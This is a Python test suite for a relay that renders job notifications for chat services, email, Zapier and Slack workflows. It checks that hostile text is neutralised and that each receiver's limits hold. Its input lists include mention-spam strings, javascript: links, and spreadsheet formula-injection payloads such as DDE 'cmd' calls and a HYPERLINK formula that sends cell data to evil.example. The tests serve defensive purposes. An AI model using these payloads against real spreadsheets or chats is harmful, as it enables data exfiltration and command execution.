"""Any content of Exec's job gives a body that every receiver accepts, and that pings nobody."""

import html
import json
import math
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from email import message_from_bytes, policy
from email.header import decode_header, make_header
from itertools import repeat
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from slack_sdk.models.blocks import Block

from relay import formats
from relay.formats import email, flat
from relay.formats.truncate import utf16_length
from relay.model import EventType
from tests.unit.formats.format_samples import COMPLETED, CONTEXT, FAILED, JOBS, REGISTRATION, digest, event, many

HOSTILE = [
    "x" * 5_000,
    "word " * 1_000,
    "👩‍💻" * 1_000,
    "&<>" * 1_700,
    "\\\"'" * 1_700,
    "*_~`|[]()#" * 500,
    "שלום \u202eעולם",
    "<!here> <!channel|x> <@U123> <#C1|x> <users/all> <at>x</at> <@here> @everyone @channel @here",
    "[click](javascript:alert(1)) <https://evil.example|click> https://evil.example",
    "two\nlines\r\n\x00\x07\x1b[31m",
    "javascript:alert(1)",
    "<mailto:x@evil.example|Support> <tel:+1|call> mailto:x@evil.example",
    "https://acme.app.exec.com@evil.example/",
    "https://crm.example.com/@everyone/@jane/_deals_/(7)?a=*1*&b=[2]",
    "x@everyone -@jane .@here @jane.doe here@all.",
    "\ud83d",
    " ",
    "",
]
"""The long ones are longer than the largest limit of one text, and no longer: to check them takes time."""

texts = st.sampled_from(HOSTILE) | st.text(st.characters() | st.sampled_from("<>&!@\n*_`\\"))
anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | texts,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=5,
)
values = texts | anything
links = values | st.sampled_from(["https://a.example/é", "https://a.example/" + "x" * 2_100, "ftp://a.example/"])
jobs = st.fixed_dictionaries(
    {"id": texts},
    optional={
        "status": values,
        "scenario": values | st.fixed_dictionaries({}, optional={"id": values, "name": values, "url": links}),
        "error": values | st.fixed_dictionaries({}, optional={"code": values, "message": values}),
        "created_at": values,
        "started_at": values,
        "completed_at": texts | st.none(),
        "duration_seconds": values,
        "extra": values,
    },
)


def strings(value: Any) -> Iterator[str]:
    """Every string inside a JSON value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, (list, dict)):
        for inner in value if isinstance(value, list) else value.values():
            yield from strings(inner)


def is_link(url: str) -> bool:
    if not url.lower().startswith(("http://", "https://")):
        return False
    plain = url.isascii() and "@" not in url.split("/")[2]  # else a word joiner was added, or the host is another one
    return plain and len(url) <= 2_048


USER_MENTION = r"(?<!\w)@\w"


def prose(text: str) -> str:
    """`text` without the URLs that the relay shows as links, and without e-mail addresses: no chat reads more in them.

    Any other URL has a word joiner, so it is left here.
    """
    return re.sub(r"\w[%+-]?@[\w-]+\.\w", "", re.sub(r"<https?://[^\s<>]+>|https?://\S+", "", text))


def check_slack(body: Any) -> None:
    assert body["text"]
    assert utf16_length(body["text"]) <= 3_000
    assert not re.search(r"[<>]|&(?!amp;|lt;|gt;)", body["text"])
    assert not re.search("@(everyone|here)", body["text"], re.IGNORECASE)  # Discord, too, takes this body
    assert 1 < len(body["blocks"]) <= 50
    for sent, block in zip(body["blocks"], Block.parse_all(body["blocks"]), strict=True):
        block.validate_json()
        assert block.to_dict() == sent
    rich, context = body["blocks"]
    [section] = rich["elements"]
    for element in section["elements"]:
        assert element["type"] in ("text", "link")
        assert 0 < utf16_length(element["text"]) <= 3_100
        assert element["text"] == "\n" or "\n" not in element["text"]
        assert element["type"] == "text" or is_link(element["url"])
    assert context["elements"][0]["type"] == "plain_text"
    assert utf16_length(context["elements"][0]["text"]) <= 3_000


def check_slack_app(body: Any) -> None:
    message = body["message"]
    check_slack(message)
    assert message["attachments"] == []
    assert set(message["metadata"]) == {"event_type", "event_payload"}


def check_slack_workflow(body: Any) -> None:
    fields = list(flat.flat_fields(event(EventType.COMPLETED, COMPLETED), None))
    assert fields == list(body)[: len(fields)]
    assert all(key.startswith("metadata_") for key in list(body)[len(fields) :])
    assert all(isinstance(value, str) and utf16_length(value) <= 3_000 for value in body.values())
    assert body["duration_seconds"] not in ("nan", "inf", "-inf")
    assert not body["scenario_url"] or is_link(body["scenario_url"])
    assert not body["job_page"] or is_link(body["job_page"])


def check_zapier(body: Any) -> None:
    fields = list(flat.flat_fields(event(EventType.COMPLETED, COMPLETED), None))
    assert fields == list(body)[: len(fields)]
    assert all(key.startswith("metadata_") for key in list(body)[len(fields) :])
    assert not any(isinstance(value, (list, dict)) for value in body.values())
    assert body["scenario_url"] is None or is_link(body["scenario_url"])


def check_discord(body: Any) -> None:
    assert body["allowed_mentions"] == {"parse": []}
    [embed] = body["embeds"]
    title, description, footer = embed["title"], embed.get("description", "x"), embed["footer"]["text"]
    fields = [text for field in embed.get("fields", []) for text in (field["name"], field["value"])]
    assert 0 < utf16_length(title) <= 256
    assert 0 < utf16_length(description) <= 4_096
    assert all(0 < utf16_length(text) <= 1_024 for text in fields)
    assert utf16_length(title + description + footer + "".join(fields)) <= 6_000
    *reason, page = description.split("\n")
    if page.startswith("["):
        assert re.fullmatch(r"\[Details in the relay\]\(https://[^()\s]+\)", page)
    else:
        reason = [*reason, page]
    assert len(reason) <= (22 if "digest" in footer else 2)
    reason = [re.sub(r"\[(.+)\]\(https?://[^()\s]+\)", r"\1", line) for line in reason]
    for text in (title, *reason, *fields):
        assert not re.search(r"[*_~`|\[\]<>#\n]", re.sub(r"\\[^0-9A-Za-z\s]", "", prose(text)))
    assert "url" not in embed or is_link(embed["url"])


def check_teams(body: Any) -> None:
    assert len(json.dumps(body, ensure_ascii=False).encode()) < 28_000
    [attachment] = body["attachments"]
    runs = [run for line in attachment["content"]["body"] for run in line["inlines"]]
    assert all(line["type"] == "RichTextBlock" for line in attachment["content"]["body"])
    assert all(run["text"] for run in runs)
    assert all(is_link(run["selectAction"]["url"]) for run in runs if "selectAction" in run)


def check_google_chat(body: Any) -> None:
    assert len(json.dumps(body, ensure_ascii=False).encode()) < 32_000
    [card] = body["cardsV2"]
    [section] = card["card"]["sections"]
    for widget in section["widgets"]:
        text = widget["textParagraph"]["text"]
        for url in re.findall(r'<a href="([^"]*)">', text):
            assert is_link(html.unescape(url))
        lines = text.split("<br>") if "digest" in section["widgets"][-1]["textParagraph"]["text"] else [text]
        drawn = r'^(. ?)?<a href="[^"]*">([^<]*)</a>|^<b>([^<]*)</b>( <a href="[^"]*">([^<]*)</a>$)?'
        plain = "".join(re.sub(drawn, r"\2\3\5", line) for line in lines)
        assert not re.search(r"[<>]|&(?!amp;|lt;|gt;)", plain)


def check_standard(body: Any) -> None:
    assert list(body) == ["type", "timestamp", "data"]
    assert list(body["data"]) == [
        *"job registration metadata requested_by prompt workspace".split(),
        *"job_page test replaces".split(),
    ]


def check_mattermost(body: Any) -> None:
    assert "blocks" not in body
    [attachment] = body["attachments"]
    texts = [body["text"], attachment["title"], attachment["fallback"]]
    texts += [field[key] for field in attachment["fields"] for key in ("title", "value")]
    for text in texts:
        assert utf16_length(text) <= 4_000
        assert not re.search(r"[*_~`|\[\]<>#\n]", re.sub(r"\\[^0-9A-Za-z\s]", "", prose(text)))
        assert not re.search(USER_MENTION, prose(text))
    assert body["text"]
    assert len(json.dumps(body["attachments"], ensure_ascii=False)) <= 7_900
    assert not attachment["title_link"] or is_link(attachment["title_link"])


def check_rocketchat(body: Any) -> None:
    [attachment] = body["attachments"]
    assert not {"ts", "author_name", "blocks"} & {*body, *attachment}
    for text in (body["text"], attachment["fallback"], *(field["value"] for field in attachment["fields"])):
        assert not re.search(r"[*_~`#]|\]\(", re.sub(r"\\[*_~`#]", "", prose(text)))
        assert not re.search(USER_MENTION, prose(text))
    assert body["text"]
    assert is_link(attachment.get("title_link", "https://x.example"))


def check_ntfy(body: Any) -> None:
    assert 0 < len(body["message"].encode()) <= 4_096
    assert 0 < utf16_length(body["title"]) <= 250
    assert re.fullmatch(r"[A-Za-z0-9_-]{1,64}", body["sequence_id"])
    assert is_link(body.get("click", "https://x.example"))


def check_telegram(body: Any) -> None:
    assert 0 < utf16_length(body["text"]) <= 4_096
    units = body["text"].encode("utf-16-le", "surrogatepass")
    for entity in body["entities"]:
        start, end = entity["offset"], entity["offset"] + entity["length"]
        assert 0 <= start < end <= len(units) // 2
        units[2 * start : 2 * end].decode("utf-16-le")  # it cuts no surrogate pair
        assert is_link(entity.get("url", "https://x.example"))
    assert not re.search(USER_MENTION, prose(body["text"]))


def check_email(body: Any) -> None:
    assert 0 < utf16_length(body["subject"]) <= 160
    assert "\n" not in body["subject"]
    mail = email.compose(json.dumps(body).encode(), "evt_1", "ep_1", 0, "a@x.example", ("b@y.example",))
    message, raw = message_from_bytes(mail, policy=policy.default), message_from_bytes(mail)
    assert str(make_header(decode_header(raw["subject"]))) == body["subject"]
    assert [part.get_content_type() for part in message.walk()][1:] == ["text/plain", "text/html"]
    tags = set(re.findall(r"<(/?\w+)", body["html"]))
    assert {tag.strip("/") for tag in tags} <= {"html", "body", "table", "tr", "td", "b", "a"}
    for url in re.findall(r'href="([^"]*)"', body["html"]):
        assert is_link(html.unescape(url))


CHECKS: dict[str, Callable[[Any], None]] = {
    "standard": check_standard,
    "slack": check_slack,
    "slack_app": check_slack_app,
    "slack_workflow": check_slack_workflow,
    "zapier": check_zapier,
    "discord": check_discord,
    "teams": check_teams,
    "google_chat": check_google_chat,
    "mattermost": check_mattermost,
    "rocketchat": check_rocketchat,
    "ntfy": check_ntfy,
    "telegram": check_telegram,
    "email": check_email,
}
CHATS = tuple(sorted(set(CHECKS) - {"standard", "zapier"}))


def check(format: str, body: bytes) -> None:
    """Raises unless `body` is JSON that the format's receiver can take, without any live mention in a chat."""

    def refuse(constant: str) -> None:
        raise AssertionError(f"{constant} is no JSON")

    parsed = json.loads(body.decode(), parse_constant=refuse)
    CHECKS[format](parsed)
    if format in CHATS:
        alive = re.compile(
            r"<[!@#]|<(mailto|tel):|<users/|<at>|@(everyone|here|channel)|[\x00-\x1f\u202a-\u202e]", re.IGNORECASE
        )
        assert not [text for text in strings(parsed) if alive.search(prose(text.replace("\n", " ")))]


@pytest.mark.parametrize("format", formats.FORMATS)
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_within_the_limits(format: str, text: str) -> None:
    """Each hostile text as name, link, reason and code at once gives a body that the receiver accepts."""
    scenario = {"id": text, "name": text, "url": text}
    job = COMPLETED | {"status": text, "scenario": scenario, "error": {"code": text, "message": text}}
    context = replace(CONTEXT, metadata={text: text, f"{text}2": 7}, requested_by=text, prompt=text, tested_by=text)
    for type, test in (*zip(EventType, repeat(False)), (EventType.COMPLETED, True), (EventType.FAILED, True)):
        made = event(type, job, "R&D <!here> *x*", replace(context, test=test))
        check(format, formats.render(format, made, REGISTRATION))


@pytest.mark.parametrize("format", CHATS)
@pytest.mark.parametrize("text", HOSTILE)
def test_a_digest_of_hostile_texts_stays_within_the_limits(format: str, text: str) -> None:
    """Many jobs, with every text as a name, link, id and requester."""
    job = COMPLETED | {"scenario": {"id": text, "name": text, "url": text}}
    context = replace(CONTEXT, requested_by=text)
    check(format, formats.render(format, digest(many(30, job, context)), None))
    check(format, formats.render(format, digest(many(30, COMPLETED, context)), None))


@given(listed=st.lists(anything | st.dictionaries(st.sampled_from(["name", "url", "event"]), anything), max_size=3))
def test_any_list_of_a_digest_can_be_rendered(listed: list[Any]) -> None:
    """Whatever a store of another version holds, in every format."""
    made = replace(digest([]), job={"counts": {"job.completed": len(listed)}, "jobs": listed})
    for format in formats.FORMATS:
        formats.render(format, made, None)


@given(job=jobs, type=st.sampled_from(EventType), metadata=st.dictionaries(st.text(), anything, max_size=3))
@example(job={"id": "\ud83d", "x\ud83d": math.inf}, type=EventType.FAILED, metadata={"\ud83d": math.nan})
@example(job={"id": "x", "duration_seconds": math.nan}, type=EventType.FAILED, metadata={"x": math.inf})
def test_any_job_gives_a_body_within_the_limits(job: dict[str, Any], type: EventType, metadata: dict[str, Any]) -> None:
    """Rendering never fails and never breaks a receiver's rules, whatever the job and the metadata hold."""
    made = event(type, job, context=replace(CONTEXT, metadata=metadata))
    for format in formats.FORMATS:  # the same job for all: drawing one takes longer than rendering it in each
        check(format, formats.render(format, made, replace(REGISTRATION, metadata=metadata)))


FORMULAS = (
    '=HYPERLINK("https://evil.example/?" & A1, "Open")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "\t=1",
    "\r=1",
    " \n =1",
    "\uff1dHYPERLINK(1)",
    "\uff0b1+A1",
)


@pytest.mark.parametrize("format", ["zapier", "slack_workflow"])
@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula_in_a_new_row(format: str, text: str) -> None:
    """Zaps and workflows add rows to spreadsheets: a text of others has an invisible character before it there."""
    job = COMPLETED | {"id": text, "status": text, "scenario": {"id": text, "name": text, "url": text}}
    context = replace(CONTEXT, metadata={"note": text, text: text}, requested_by=text, prompt=text)
    for type, error in ((EventType.COMPLETED, None), (EventType.FAILED, {"code": text, "message": text})):
        made = event(type, job | {"error": error}, "default", context)
        for value in json.loads(formats.render(format, made, REGISTRATION)).values():
            assert not isinstance(value, str) or not value.lstrip().startswith(tuple("=@+-\uff1d\uff0b")), value


@pytest.mark.parametrize("format", formats.FORMATS)
def test_nothing_is_added_to_urls_addresses_and_ids(format: str) -> None:
    """People click and copy them, and programs compare them: in every format they are as they were given."""
    crm, address = "https://crm.example.com/@here/7?x=1&y=www.a.example", "all@channel4.com"
    context = replace(CONTEXT, metadata={"crm": crm, "owner": "here@all.example"}, requested_by=address)
    for type in (EventType.COMPLETED, EventType.FAILED):
        body = formats.render(format, event(type, JOBS[type], context=context), REGISTRATION).decode()
        assert "\u2060" not in body
        for shown in (crm, address, "here@all.example"):
            assert shown in html.unescape(body), shown


READABLE = ("<!channel>", "@here", "[x](http://evil)", "a `b` c", "*a* _b_ ~c~", "&lt;!here&gt;", "# a | b \\ c > d!")
"""Texts that are alive in some chat's own language."""


def shown_by(format: str, body: Any) -> str:
    """All texts of a body as the service shows them: what it escapes is read back, and what is invisible is gone."""
    markdown = format in ("discord", "mattermost", "rocketchat")
    text = "\n".join(strings(body)).replace("\u2060", "")
    if format == "email":
        return f"{body['subject']}\n{body['text']}\n{html.unescape(body['html'])}"
    if format in ("google_chat", "slack", "slack_app"):
        return f"{text}\n{html.unescape(text)}"
    return re.sub(r"\\([^0-9A-Za-z\s])", r"\1", text) if markdown else text


@pytest.mark.parametrize("format", CHATS)
@pytest.mark.parametrize("text", READABLE)
def test_a_person_reads_the_same_characters(format: str, text: str) -> None:
    """Whatever keeps a text from being a mention, a link or markup is invisible in the chat that shows it."""
    scenario = {"id": "s1", "name": f"name {text}", "url": "https://x.example"}
    failed = FAILED | {"error": {"code": "X", "message": f"reason {text}"}}
    context = replace(
        CONTEXT, metadata={f"key {text}": f"value {text}"}, requested_by=f"who {text}", prompt=f"what {text}"
    )
    said = ""
    for made in (
        event(EventType.COMPLETED, COMPLETED | {"scenario": scenario}, context=context),
        event(EventType.FAILED, failed, context=context),
        digest(many(2, COMPLETED | {"scenario": scenario}, context)),
    ):
        said += shown_by(format, json.loads(formats.render(format, made, None))).replace("\u2060", "") + "\n"
    words = ("name", "reason", "value", "who", "what") if format != "slack_workflow" else ("name", "value", "who")
    for word in words:
        assert f"{word} {text}" in said, said


def test_telegram_s_longest_failure_is_shorter_than_its_limit_and_keeps_its_link() -> None:
    """Its units are those of UTF-16, and every entity is whole; the link to the job is the last to go."""
    reason = "\U0001f469\u200d\U0001f4bb <b> & _[" * 600
    failed = FAILED | {"error": {"code": "GENERATION_ERROR", "message": reason}}
    context = replace(
        CONTEXT, metadata={f"{key}_" * 200: reason for key in range(5)}, requested_by=reason, prompt=reason
    )
    body = json.loads(formats.render("telegram", event(EventType.FAILED, failed, context=context), REGISTRATION))
    check_telegram(body)
    assert "parse_mode" not in body
    assert context.page in [entity.get("url") for entity in body["entities"]]
    assert body["link_preview_options"] == {"is_disabled": True}
    assert "(GENERATION_ERROR)" in body["text"]


@pytest.mark.parametrize("format", ["mattermost", "rocketchat"])
def test_a_server_that_ignores_what_it_does_not_know_shows_the_news(format: str) -> None:
    """Name, requester, reason and links are in the fields that every version of these servers draws."""
    for type, expected in ((EventType.COMPLETED, "Discovery Call"), (EventType.FAILED, "Unable to generate scenario")):
        body = json.loads(formats.render(format, event(type, JOBS[type], context=CONTEXT), None))
        known = {"color", "title", "title_link", "fields", "fallback", "text", "footer"}
        [attachment] = body["attachments"]
        drawn = body["text"] + json.dumps({key: value for key, value in attachment.items() if key in known})
        link = COMPLETED["scenario"]["url"] if type is EventType.COMPLETED else CONTEXT.page
        for needed in (expected, "jane@acme.com", str(link)):
            assert needed in drawn


@pytest.mark.parametrize("format", ["zapier", "slack_workflow"])
@pytest.mark.parametrize("text", [*FORMULAS, "@channel", "<!here>"])
def test_nothing_is_added_to_a_hostile_id_either(format: str, text: str) -> None:
    """What would be a formula or a mention in it goes."""
    times = {"created_at": text, "started_at": text, "completed_at": text}
    job = COMPLETED | times | {"scenario": {"id": f"{text}7", "name": "x", "url": text}}
    sent = json.loads(formats.render(format, event(EventType.COMPLETED, job), None))
    for key in ("scenario_id", "created_at", "started_at", "completed_at", "scenario_url"):
        assert "\u2060" not in (sent[key] or "")


@pytest.mark.parametrize(
    "text", ["+1 (415) 555-1234", "-5", "-1/2", "+5,3", "2024-03-01", "jane@acme.com", "a = b", ""]
)
def test_numbers_and_addresses_stay_as_they_are_for_programs(text: str) -> None:
    """A Zap may send a message to the telephone number, or compare the text."""
    made = event(EventType.COMPLETED, COMPLETED, context=replace(CONTEXT, metadata={"x": text}, requested_by=text))
    sent = json.loads(formats.render("zapier", made, None))
    assert (sent["metadata_x"], sent["requested_by"]) == (text, text)


def test_a_template_sends_texts_as_exec_wrote_them_and_headlines_that_are_inert() -> None:
    """Whoever writes the template knows the receiver, and chooses."""
    name = '=HYPERLINK("x") @channel <!here> mailto:x@evil.example'
    scenario = {"id": "s1", "name": name, "url": "https://acme.app.exec.com@evil.example/"}
    made = event(EventType.COMPLETED, COMPLETED | {"scenario": scenario})
    template = {"raw": "{{ job.scenario.name }}", "inert": "{{ headline }}", "opens": "{{ link }}"}
    sent = json.loads(formats.render("template", made, None, json.dumps(template)))
    assert sent["raw"] == name
    assert sent["inert"].startswith("Scenario ready: ")
    assert not any(alive in sent["inert"] for alive in ("@channel", "<!here", "mailto:x"))
    assert sent["opens"] is None


@given(job=jobs)
def test_the_standard_body_has_the_job_unchanged(job: dict[str, Any]) -> None:
    """Every field, known or not, unless JSON can't represent it."""
    sent = json.loads(formats.render("standard", event(EventType.COMPLETED, job), None))["data"]["job"]
    try:
        expected = json.loads(json.dumps(job, ensure_ascii=False, allow_nan=False).encode())
    except ValueError:
        return
    assert sent == expected
    assert list(sent) == list(job)


@pytest.mark.parametrize("format", formats.FORMATS)
def test_an_event_without_a_job_names_its_id(format: str) -> None:
    """A job that the relay never saw is named by its id."""
    for type in (EventType.NOT_FOUND, EventType.EXPIRED):
        body = formats.render(format, event(type, JOBS[EventType.NOT_FOUND]), None)
        check(format, body)
        assert b"j1o2b3i4d5x6" in body


@pytest.mark.parametrize("format", ["slack", "discord", "teams", "google_chat", "mattermost", "rocketchat", "telegram"])
@pytest.mark.parametrize("url", ["javascript:alert(1)", "", None, "/scenarios/x", "https://"])
def test_no_link_leads_nowhere(format: str, url: str | None) -> None:
    """Without a link that opens, the news comes without one."""
    job = COMPLETED | {"scenario": {"id": "s1", "name": "Discovery Call", "url": url}}
    body = formats.render(format, event(EventType.COMPLETED, job), None)
    assert b"Discovery Call" in body
    assert not any(word in body for word in (b'"url"', b"href=", b'_link":"h', b"javascript"))
    failed = formats.render(format, event(EventType.FAILED, FAILED), None)
    assert not any(word in failed for word in (b'"url"', b"href="))
